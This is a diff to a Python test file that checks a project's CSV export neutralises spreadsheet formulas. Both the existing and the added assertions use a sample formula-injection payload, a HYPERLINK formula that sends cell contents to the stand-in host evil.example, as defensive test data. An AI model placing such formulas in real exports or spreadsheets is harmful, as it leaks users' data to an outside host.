@@ -11,7 +11,6 @@ import pytest
 from improvement.cli import main
 from improvement.models import ItemFilter
 from improvement.report import review_csv
-from improvement.review import quarterly_review
 from improvement.services import BacklogService
 from improvement.spreadsheet import restore_cell, safe_cell
 from improvement.transfer import parse_rows
@@ -77,6 +76,9 @@ def test_backlog_export_and_review_csv_cannot_run_formulas(service: BacklogServi
     assert sorted(r["owner"] for r in restored) == sorted(i.owner or "" for i in stored)
     assert '=HYPERLINK("http://evil.example/?leak="&A1,"x")' in {r["title"] for r in restored}
 
-    review = quarterly_review(sessions, "2026-Q4")
-    rows = assert_no_formula(review_csv(review))
-    assert {row[1] for row in rows if row[0] == "owner"} == {safe_cell(i.owner) for i in stored}
+    # The review's CSV is the quarter's items, one row each: the owners and titles are neutralised there too.
+    rows = assert_no_formula(review_csv(sessions, "2026-Q4"))
+    header, body = rows[0], rows[1:]
+    owners = {row[header.index("owner")] for row in body}
+    assert owners == {safe_cell(i.owner) for i in stored}
+    assert safe_cell('=HYPERLINK("http://evil.example/?leak="&A1,"x")') in {row[header.index("title")] for row in body}
